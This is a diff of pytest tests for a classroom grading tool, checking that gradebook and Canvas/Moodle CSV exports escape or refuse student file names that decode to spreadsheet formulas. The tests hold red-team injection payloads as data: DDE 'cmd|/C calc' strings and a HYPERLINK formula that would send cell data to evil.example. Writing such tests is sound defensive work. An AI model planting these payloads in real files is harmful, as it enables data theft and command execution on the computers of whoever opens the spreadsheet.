@@ -78,7 +78,10 @@ def test_gradebook_cells_that_begin_like_a_formula_are_text():
     )[1:]
     cells = [c for row in rows for c in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
-    assert sorted(row[0] for row in rows) == sorted(("'" + n if n != "ok" else n) for n in names)
+    assert not [c for c in cells if "\t" in c or "\n" in c or "\r" in c], cells
+    assert sorted(row[0] for row in rows) == sorted(
+        ["'" + n for n in names[:4]] + [" x", "ok"]  # a tab is a space: no formula after it
+    )
 
 
 def test_out_and_feedback_must_be_outside_the_submissions_folder(tmp_path):
@@ -92,3 +95,115 @@ def test_out_and_feedback_must_be_outside_the_submissions_folder(tmp_path):
         out = kw.pop("out")
         with pytest.raises(GradeError, match="outside the submissions folder"):
             grade_folder(subs, out, progress=None, **kw)
+
+
+# red team G2: file names that grade --lms decodes (user_of_key) into formulas, a tab, a
+# newline, or another student's name
+G2_NAMES = [
+    "%3DHYPERLINK(%22http:%2F%2Fevil.example%2F%3Fq%3D%22%26A1,%22grade%22)",
+    "%3Dcmd%7C' %2FC calc'!A0",
+    "%09=cmd|' /C calc'!A0",
+    "%2B1+cmd|' /C calc'!A0",
+    "x%0A=cmd|' /C calc'!A0",
+    "%40SUM(1+1)",
+    "-2+3",
+    "Alice",  # upper case: not a hub/Unix account name
+]
+
+
+def _safe_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "@", "\t", "\r", "\n")], cells
+    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()], cells
+    assert not [c for c in cells if any(ch in c for ch in "\t\r\n")], cells
+    return cells
+
+
+def test_lms_files_refuse_names_that_are_no_account_and_never_merge_two_files():
+    """Red team G2: every one of those names refuses the Canvas and Moodle files with one
+    line naming the submission (never a raw formula); ``%72t2alice`` and ``rt2alice`` are two
+    files of one user: refused, naming both (before, one row with the better grade); plausible
+    names are written, and every cell (a --lms-map's too) goes through the guard."""
+    from kmlteach.course.classroom.lms import lms_csv
+
+    def row(sid, total="13"):
+        return {"submission": sid, "chapter": "01", "total": total}
+
+    for kind in ("canvas", "moodle"):
+        for name in G2_NAMES:
+            with pytest.raises(ValueError) as exc:
+                lms_csv(kind, [row("ok_user"), row(name)], None)
+            msg = str(exc.value)
+            assert len(msg.splitlines()) == 1 and ascii(name) in msg and "not an account name" in msg, msg
+        with pytest.raises(ValueError) as exc:
+            lms_csv(kind, [row("rt2alice", "0"), row("%72t2alice")], None)
+        msg = str(exc.value)
+        assert "'rt2alice'" in msg and "'%72t2alice'" in msg and "both user 'rt2alice'" in msg, msg
+        # one user's chapters in two folders are not a clash; plausible names pass
+        rows = [
+            row("01/bob.smith@uni.example"),
+            row("x-1_y", "2"),
+            {**row("02/bob.smith@uni.example"), "chapter": "02"},
+        ]
+        text, left = lms_csv(kind, rows, None)
+        cells = _safe_cells(text)
+        assert "bob.smith@uni.example" in cells and "x-1_y" in cells and left == []
+
+
+def test_a_lms_map_s_formula_cells_are_guarded(tmp_path):
+    from kmlteach.course.classroom.lms import lms_csv
+
+    (tmp_path / "map.csv").write_text(
+        'user,Student,SIS Login ID\nalice,"=HYPERLINK(""http://evil"",""x"")","@SUM(1)"\nbob,"-1+cmd","x\ny"\n'
+    )
+    rows = [{"submission": u, "chapter": "01", "total": "3"} for u in ("alice", "bob")]
+    text, _ = lms_csv("canvas", rows, None, tmp_path / "map.csv")
+    cells = _safe_cells(text)
+    assert '\'=HYPERLINK("http://evil","x")' in cells and "'@SUM(1)" in cells and "'-1+cmd" in cells
+
+
+def test_grade_lms_with_the_red_team_s_files(tmp_path):
+    """End to end (``python -m kmlteach grade ... --lms canvas``): the gradebook keeps every
+    row, guarded; the Canvas file is not written and ``grade`` says why in one line on stderr,
+    naming the files, and exits 1; without the hostile files the file is written."""
+    import csv
+    import subprocess
+    import sys
+
+    from grade_submissions import ROOT, dump, load, student
+
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    empty, honest = dump(student(load())), dump(load())
+    (subs / "rt2alice.ipynb").write_bytes(empty)
+    (subs / "%72t2alice.ipynb").write_bytes(honest)
+    (subs / "%3Dcmd%7C' %2FC calc'!A0.ipynb").write_bytes(empty)
+    (subs / "x%0A=cmd.ipynb").write_bytes(empty)
+
+    def grade(*extra):
+        return subprocess.run(
+            [sys.executable, "-m", "kmlteach", "grade", str(subs), "--out", str(tmp_path / "gb.csv")]
+            + ["--lms", "canvas", str(tmp_path / "canvas.csv"), *extra],
+            capture_output=True,
+            text=True,
+            cwd=ROOT,
+            timeout=600,
+        )
+
+    r = grade()
+    assert r.returncode == 1 and not (tmp_path / "canvas.csv").exists(), (r.stdout, r.stderr)
+    (line,) = [ln for ln in r.stderr.splitlines() if ln.startswith("error:")]
+    for sid in ("rt2alice", "%72t2alice", "%3Dcmd%7C' %2FC calc'!A0", "x%0A=cmd"):
+        assert ascii(sid) in line, line
+    text = (tmp_path / "gb.csv").read_text(encoding="utf-8")
+    _safe_cells(text)
+    rows = {r["submission"]: r["total"] for r in csv.DictReader(text.splitlines())}
+    assert rows["rt2alice"] == "0" and rows["%72t2alice"] == "13" and len(rows) == 4, rows
+    for name in ("%3Dcmd%7C' %2FC calc'!A0.ipynb", "x%0A=cmd.ipynb", "%72t2alice.ipynb"):
+        (subs / name).unlink()
+    r = grade()
+    assert r.returncode == 0, (r.stdout, r.stderr)
+    assert list(csv.reader((tmp_path / "canvas.csv").read_text().splitlines()))[1][:1] == ["rt2alice"]
